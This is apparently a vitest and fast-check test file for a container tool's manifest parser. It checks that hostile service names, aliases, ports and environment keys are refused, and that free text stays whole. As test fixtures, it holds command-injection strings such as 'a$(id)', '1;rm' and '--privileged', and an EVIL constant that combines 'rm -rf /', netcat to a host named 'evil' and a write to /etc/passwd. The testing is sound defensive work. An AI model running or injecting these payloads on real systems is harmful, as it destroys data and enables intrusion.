// issue #7.2: text from a manifest reaches the engine only as structured fields, and the firewall only
// as validated numbers and addresses. Hostile names, aliases, ports and env keys are refused by the
// manifest stage (parseManifest throws, so no Manifest exists for the planner or the engine); free text
// (env values, commands) travels as whole array elements, never joined into a shell string.
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import type { Manifest } from '../../../src/manifest/index.js';
import type { ContainerSpec, Plan } from '../../../src/plan/model.js';
import { reconcile } from '../../../src/plan/reconcile.js';
import { emptyEngine } from '../plan/fixtures.js';
import { problems } from '../manifest/helpers.js';
import { parse } from './outcome.js';

const q = JSON.stringify;
const NAME_RULE = "use letters, digits, '_', '.' or '-', starting with a letter or digit, at most 63 characters";
const EXPOSE_FORM = 'use 5432, "5432/tcp", "53/udp" or "6379-6381"';
const PORTS_FORM = 'use "80", "8080:80", "127.0.0.1:8080:80", "127.0.0.1::80", "5353:53/udp" or "8000-8002:8000-8002"';
const NUL = 'contains a NUL character, which no container setting can hold; remove it';
const SPACE = 'must not contain whitespace or control characters';

describe('hostile values are refused by the manifest stage, each at its place', () => {
  const name = (v: string) => `services:\n  ${q(v)}:\n    image: x\n`;
  test.each<[string, string[]]>([
    ['web;id', [`2:3: service name "web;id" is not valid; ${NAME_RULE}`]],
    ['a$(id)', [`2:3: service name "a$(id)" is not valid; ${NAME_RULE}`]],
    ['a`id`', [`2:3: service name "a\`id\`" is not valid; ${NAME_RULE}`]],
    ['a\nb', [`2:3: service name "a\\nb" is not valid; ${NAME_RULE}`]],
    ['a b', [`2:3: service name "a b" is not valid; ${NAME_RULE}`]],
    ['--x', [`2:3: service name "--x" is not valid; ${NAME_RULE}`]],
    ['-x', [`2:3: service name "-x" is not valid; ${NAME_RULE}`]],
    ['../x', [`2:3: service name "../x" is not valid; ${NAME_RULE}`]],
    ['a/b', [`2:3: service name "a/b" is not valid; ${NAME_RULE}`]],
    ['a:b', [`2:3: service name "a:b" is not valid; ${NAME_RULE}`]],
    ['wеb', [`2:3: service name "wеb" is not valid; ${NAME_RULE} ("е" is U+0435, not an ASCII character)`]],
    ['', [`2:3: service name "" is not valid; ${NAME_RULE}`]],
    ['web\0', [`2:3: key "web\\u0000" ${NUL}`, `2:3: service name "web\\u0000" is not valid; ${NAME_RULE}`]],
    ['a'.repeat(64), [`2:3: service name "${'a'.repeat(64)}" is not valid; ${NAME_RULE}`]],
  ])('service name %j', (v, want) => {
    expect(problems(name(v))).toEqual(want);
  });

  const alias = (v: string) => `services:\n  db: {image: x}\n  web:\n    image: x\n    link: ${q(v)}\n`;
  test.each<[string, string[]]>([
    ['db:a;b', [`5:11: link alias "a;b" in "db:a;b" is not valid; ${NAME_RULE}`]],
    ['db:$$(id)', [`5:11: link alias "$(id)" in "db:$(id)" is not valid; ${NAME_RULE}`]],
    ['db:`id`', [`5:11: link alias "\`id\`" in "db:\`id\`" is not valid; ${NAME_RULE}`]],
    ['db:a\nb', [`5:11: link alias "a\\nb" in "db:a\\nb" is not valid; ${NAME_RULE}`]],
    ['db:a b', [`5:11: link alias "a b" in "db:a b" is not valid; ${NAME_RULE}`]],
    ['db:--x', [`5:11: link alias "--x" in "db:--x" is not valid; ${NAME_RULE}`]],
    ['db:../x', [`5:11: link alias "../x" in "db:../x" is not valid; ${NAME_RULE}`]],
    ['db:wеb', [`5:11: link alias "wеb" in "db:wеb" is not valid; ${NAME_RULE}`]],
    ['--x:y', ['5:11: Service "web" has a link to service "--x" which does not exist.']],
    ['db;id', [`5:11: link "db;id" is not a valid service name; ${NAME_RULE}`]],
    ['db\n', [`5:11: link "db\\n" is not a valid service name; ${NAME_RULE}`]],
    [' db', [`5:11: link " db" is not a valid service name; ${NAME_RULE}`]],
    ['db:x:y', ['5:11: bad format for links: db:x:y; use "service" or "service:alias"']],
    ['db:x y:z', ['5:11: bad format for links: db:x y:z; use "service" or "service:alias"']],
  ])('link %j', (v, want) => {
    expect(problems(alias(v))).toEqual(want);
  });

  const expose = (v: string) => `services:\n  web:\n    image: x\n    expose: [${q(v)}]\n`;
  test.each<[string, string[]]>([
    ...['1;rm', '0x50', '1e3', ' 80', '80 ', '80/tcp;id', '80\n81', '-80', '+80', '٨٠', '80/TCP'].map((v): [string, string[]] => [v, [`4:14: expose entry ${q(v)} is not a port; ${EXPOSE_FORM}`]]),
    ['80/icmp', ['4:14: protocol "icmp" in "80/icmp" is not tcp, udp or sctp']],
    ['1-65536', ['4:14: port 65536 is out of range 1-65535 in "1-65536"']],
    ['0', ['4:14: port 0 is out of range 1-65535 in "0"']],
  ])('expose %j', (v, want) => {
    expect(problems(expose(v))).toEqual(want);
  });

  const ports = (v: string) => `services:\n  web:\n    image: x\n    ports: [${q(v)}]\n`;
  test.each<[string, string[]]>([
    ['1;rm:80', [`4:13: "1;rm" in "1;rm:80" is not a port or range; ${PORTS_FORM}`]],
    ['0x50:80', [`4:13: "0x50" in "0x50:80" is not a port or range; ${PORTS_FORM}`]],
    ['1e3:80', [`4:13: "1e3" in "1e3:80" is not a port or range; ${PORTS_FORM}`]],
    [' 80:80', [`4:13: " 80" in " 80:80" is not a port or range; ${PORTS_FORM}`]],
    ['8080:80;id', [`4:13: ports entry "8080:80;id" is not a port mapping; ${PORTS_FORM}`]],
    ['8080:80\n', [`4:13: ports entry "8080:80\\n" is not a port mapping; ${PORTS_FORM}`]],
    ['127.0.0.1:8080:80/tcp;id', [`4:13: ports entry "127.0.0.1:8080:80/tcp;id" is not a port mapping; ${PORTS_FORM}`]],
    ['1.2.3.4 --x:80:80', [`4:13: host IP "1.2.3.4 --x" in "1.2.3.4 --x:80:80" is not an IPv4 address; ${PORTS_FORM}`]],
    ['[::1;id]:80:80', ['4:13: "[::1;id]:80:80" is not a port mapping; for IPv6 use "[::1]:8080:80"']],
  ])('ports %j', (v, want) => {
    expect(problems(ports(v))).toEqual(want);
  });

  test('a long-form port with a hostile host_ip or published port', () => {
    const yaml = 'services:\n  web:\n    image: x\n    ports:\n      - {target: 80, host_ip: "0.0.0.0\\n--privileged"}\n      - {target: 80, published: "8080;id"}\n';
    expect(problems(yaml)).toEqual([
      '5:9: host_ip "0.0.0.0\\n--privileged" is not an IP address',
      `6:9: "8080;id" in "{\\"target\\":80,\\"published\\":\\"8080;id\\"}" is not a port or range; ${PORTS_FORM}`,
    ]);
  });

  const envMap = (v: string) => `services:\n  web:\n    image: x\n    environment:\n      ${q(v)}: x\n`;
  test.each<[string, string[]]>([
    ['A=B', ['5:7: environment key "A=B" must not contain "="; use KEY=VALUE']],
    ['A\nB', [`5:7: environment key "A\\nB" ${SPACE}`]],
    ['A\0B', [`5:7: key "A\\u0000B" ${NUL}`]],
    ['A B', [`5:7: environment key "A B" ${SPACE}`]],
    ['\tA', [`5:7: environment key "\\tA" ${SPACE}`]],
    ['', ['5:7: environment has an empty key; use KEY=VALUE']],
  ])('environment key %j', (v, want) => {
    expect(problems(envMap(v))).toEqual(want);
  });

  const envList = (v: string) => `services:\n  web:\n    image: x\n    environment: [${q(v)}]\n`;
  test.each<[string, string[]]>([
    ['=x', ['4:19: environment has an empty key; use KEY=VALUE']],
    ['A\nB=x', [`4:19: environment key "A\\nB" ${SPACE}`]],
    ['A\0=x', [`4:19: value "A\\u0000=x" ${NUL}`]],
    ['A B=x', [`4:19: environment key "A B" ${SPACE}`]],
  ])('environment entry %j', (v, want) => {
    expect(problems(envList(v))).toEqual(want);
  });

  test('the same values from variables are refused the same way', () => {
    const yaml = 'services:\n  web:\n    image: x\n    expose: ["${P}"]\n    link: "${L}"\n    hostname: "${H}"\n  db: {image: x}\n';
    expect(problems(yaml, { env: { P: '80;id', L: 'db:--x', H: 'h 1.2.3.4' } })).toEqual([
      `4:14: expose entry "80;id" is not a port; ${EXPOSE_FORM}`,
      `5:11: link alias "--x" in "db:--x" is not valid; ${NAME_RULE}`,
      "6:15: hostname \"h 1.2.3.4\" is not valid; use letters, digits, '-' or '_' in parts separated by '.', at most 63 characters",
    ]);
  });
});

// Whatever the value, what the Manifest holds in these fields fits a grammar with no room for a flag,
// a shell word boundary or a line break: a hostile string is refused at its own line, or it was harmless.
describe('generated hostile values: refused where they stand, or harmless', { timeout: 20_000 }, () => {
  const SAFE_NAME = /^[a-zA-Z0-9][a-zA-Z0-9_.-]{0,62}$/;
  const hostile = fc.oneof(
    fc.stringMatching(/^[a-z0-9;$()`'"\\ \t\n:/.=_-]{0,12}$/),
    fc.string({ unit: 'binary', maxLength: 8 }),
    fc.constantFrom('wеb', 'ｗｅｂ', '--x', '-p', '80;id', '1;rm', '0x50', '1e3', ' 80', 'a\u2028b', 'a\u0085b'),
  );

  test('service names', () => {
    fc.assert(
      fc.property(hostile, (v) => {
        const outcome = parse(`services:\n  ${q(v)}:\n    image: x\n`);
        if ('ok' in outcome) expect(Object.keys(outcome.ok.manifest.services).every((n) => SAFE_NAME.test(n))).toEqual(true);
        else expect(outcome.problems.map((p) => p.line)).toEqual(outcome.problems.map(() => 2));
      }),
      { numRuns: 300 },
    );
  });

  test('link aliases', () => {
    fc.assert(
      fc.property(hostile, (v) => {
        const outcome = parse(`services:\n  db: {image: x}\n  web:\n    image: x\n    link: ${q(`db:${v}`)}\n`);
        if ('ok' in outcome) expect(outcome.ok.manifest.services.web!.links.every((l) => SAFE_NAME.test(l.alias) && SAFE_NAME.test(l.target))).toEqual(true);
        else expect(outcome.problems.map((p) => p.line)).toEqual(outcome.problems.map(() => 5));
      }),
      { numRuns: 300 },
    );
  });

  test('ports', () => {
    fc.assert(
      fc.property(hostile, (v) => {
        const outcome = parse(`services:\n  web:\n    image: x\n    expose: [${q(v)}]\n    ports: [${q(`8080:${v}`)}]\n`);
        if ('ok' in outcome) {
          const web = outcome.ok.manifest.services.web!;
          const numbers = [...web.expose.map((p) => p.port), ...web.ports.map((p) => p.containerPort)];
          expect([numbers.every((n) => Number.isInteger(n) && n >= 1 && n <= 65535), web.ports.every((p) => /^(\d+(-\d+)?)?$/.test(p.hostPort))]).toEqual([true, true]);
        } else expect(outcome.problems.filter((p) => p.line !== 4 && p.line !== 5)).toEqual([]);
      }),
      { numRuns: 300 },
    );
  });

  test('environment keys', () => {
    fc.assert(
      fc.property(hostile, (v) => {
        const outcome = parse(`services:\n  web:\n    image: x\n    environment:\n      ${q(v)}: x\n`);
        if ('ok' in outcome) expect(Object.keys(outcome.ok.manifest.services.web!.environment).every((k) => /^[^=\s\0]+$/.test(k))).toEqual(true);
        else expect(outcome.problems.map((p) => p.line)).toEqual(outcome.problems.map(() => 5));
      }),
      { numRuns: 300 },
    );
  });
});

/** The plan for a manifest on an engine with nothing on it: what hitch would ask the engine to create. */
function containers(manifest: Manifest): Record<string, ContainerSpec> {
  const plan: Plan = reconcile(manifest, emptyEngine());
  const out: Record<string, ContainerSpec> = {};
  for (const a of plan.actions) if (a.kind === 'create-container') out[a.id] = a.container;
  return out;
}

function manifestOf(yaml: string, env: Record<string, string> = {}): Manifest {
  const outcome = parse(yaml, { env });
  if (!('ok' in outcome)) throw new Error(`expected a valid manifest, got:\n${outcome.formatted}`);
  return outcome.ok.manifest;
}

describe('free text stays whole: one env entry, one command element', () => {
  const EVIL = '$(id); `id` && rm -rf / | nc evil 1 > /etc/passwd\n--privileged "quoted" \'single\' \\';
  const yaml = [
    'services:',
    '  db:',
    '    image: pg',
    '    expose: ["5432"]',
    '    environment:',
    '      PASSWORD: "${EVIL}"',
    '      SPACES: "  a  b  "',
    '    command: ["sh", "-c", "${EVIL}", "--", "$$(id)"]',
    '  web:',
    '    image: web',
    '    link: db',
    '    environment: ["LIST=${EVIL}", "EQ=a=b=c"]',
    '    command: "run --flag \'${EVIL_WORD}\' \\"two words\\""',
    '    entrypoint: ["/bin/app", "--config=${EVIL}"]',
  ].join('\n');
  const specs = containers(manifestOf(yaml, { EVIL, EVIL_WORD: '; rm -rf / $(id)' }));

  test('env values are single KEY=VALUE entries, link env included', () => {
    expect([specs['service:db']!.env, specs['service:web']!.env]).toEqual([
      [`PASSWORD=${EVIL}`, 'SPACES=  a  b  '],
      [
        `DB_ENV_PASSWORD=${EVIL}`,
        'DB_ENV_SPACES=  a  b  ',
        'DB_NAME=/fuzz-web/db',
        'DB_PORT=tcp://10.213.0.2:5432',
        'DB_PORT_5432_TCP=tcp://10.213.0.2:5432',
        'DB_PORT_5432_TCP_ADDR=10.213.0.2',
        'DB_PORT_5432_TCP_PORT=5432',
        'DB_PORT_5432_TCP_PROTO=tcp',
        'EQ=a=b=c',
        `LIST=${EVIL}`,
      ],
    ]);
  });

  test('command and entrypoint elements are passed as written, never joined', () => {
    expect([specs['service:db']!.cmd, specs['service:web']!.cmd, specs['service:web']!.entrypoint]).toEqual([
      ['sh', '-c', EVIL, '--', '$(id)'],
      ['run', '--flag', '; rm -rf / $(id)', 'two words'],
      ['/bin/app', `--config=${EVIL}`],
    ]);
  });

  test('the sandboxes get numbers and addresses only', () => {
    expect([specs['sandbox:db']!.cmd, specs['sandbox:web']!.cmd, specs['sandbox:db']!.env, specs['sandbox:web']!.extraHosts]).toEqual([
      ['hitch-sandbox', 'run', '--subnet', '10.213.0.0/24', '--allow', 'tcp:10.213.0.3:5432'],
      ['hitch-sandbox', 'run', '--subnet', '10.213.0.0/24'],
      [],
      ['db fuzz-db:10.213.0.2'],
    ]);
  });
});

// For every generated valid manifest: firewall args are flags, CIDRs and proto:ip:port only; env keys
// have no '=', space or control character; hosts entries are names and one address.
describe('generated manifests: what reaches the engine has a fixed grammar', { timeout: 20_000 }, () => {
  const FIREWALL_ARG = /^(--subnet|--allow|\d+\.\d+\.\d+\.\d+\/\d+|(tcp|udp|sctp):\d+\.\d+\.\d+\.\d+:\d+(-\d+)?)$/;
  const HOSTS_ENTRY = /^[a-zA-Z0-9_.-]+( [a-zA-Z0-9_.-]+)*:\d+\.\d+\.\d+\.\d+$/;
  const ENV_ENTRY = /^[^=\s\0]+=/;
  const freeText = fc.oneof(fc.string({ maxLength: 12 }), fc.constantFrom('$(id)', '`id`', 'a\nb', '--x', "'; rm -rf /", '"'));
  const port = fc.oneof(fc.integer({ min: 1, max: 65535 }).map(String), fc.tuple(fc.integer({ min: 1, max: 65000 }), fc.nat(3)).map(([p, n]) => `${p}-${p + n}`));
  const proto = fc.constantFrom('', '/tcp', '/udp', '/sctp');
  const service = fc.record({
    expose: fc.array(fc.tuple(port, proto).map(([p, x]) => p + x), { maxLength: 3 }),
    ports: fc.array(fc.tuple(fc.constantFrom('', '127.0.0.1:8001:', '127.0.0.1::', '8000:'), fc.integer({ min: 1, max: 65535 }), proto).map(([h, p, x]) => h + p + x), { maxLength: 2 }),
    publishAll: fc.boolean(),
    env: fc.dictionary(fc.stringMatching(/^[A-Z_][A-Z0-9_]{0,5}$/), freeText, { maxKeys: 3 }),
    command: fc.array(freeText, { maxLength: 3 }),
    links: fc.array(fc.nat(), { maxLength: 3 }),
    alias: fc.boolean(),
  });
  const stack = fc.array(service, { minLength: 1, maxLength: 5 }).map((services) =>
    [
      'services:',
      ...services.flatMap((s, i) => {
        // links only to earlier services: no cycles; duplicates of a target are dropped
        const targets = i === 0 ? [] : [...new Set(s.links.map((n) => n % i))];
        const env = Object.entries(s.env).map(([k, v]) => `      ${k}: ${q(v.replaceAll('$', () => '$$'))}`);
        return [
          `  s${i}:`,
          '    image: img',
          `    expose: ${q(s.expose)}`,
          `    ports: ${q(s.ports)}`,
          `    publish_all: ${s.publishAll}`,
          `    command: ${q(s.command.map((c) => c.replaceAll('$', () => '$$')))}`,
          `    links: ${q(targets.map((t) => (s.alias ? `s${t}:a${t}` : `s${t}`)))}`,
          ...(env.length > 0 ? ['    environment:', ...env] : []),
        ];
      }),
    ].join('\n'),
  );

  test('firewall args, env entries and hosts entries', () => {
    fc.assert(
      fc.property(stack, (yaml) => {
        const specs = Object.values(containers(manifestOf(yaml)));
        const sandboxes = specs.filter((s) => s.role === 'sandbox');
        const firewall = sandboxes.flatMap((s) => s.cmd!.slice(2));
        const bad = [
          ...sandboxes.filter((s) => s.cmd![0] !== 'hitch-sandbox' || s.cmd![1] !== 'run').map((s) => s.cmd!.join(' ')),
          ...firewall.filter((a) => !FIREWALL_ARG.test(a)),
          ...specs.flatMap((s) => s.env).filter((e) => !ENV_ENTRY.test(e)),
          ...specs.flatMap((s) => s.extraHosts).filter((h) => !HOSTS_ENTRY.test(h)),
        ];
        expect([sandboxes.length > 0, bad]).toEqual([true, []]);
      }),
      { numRuns: 300 },
    );
  });
});
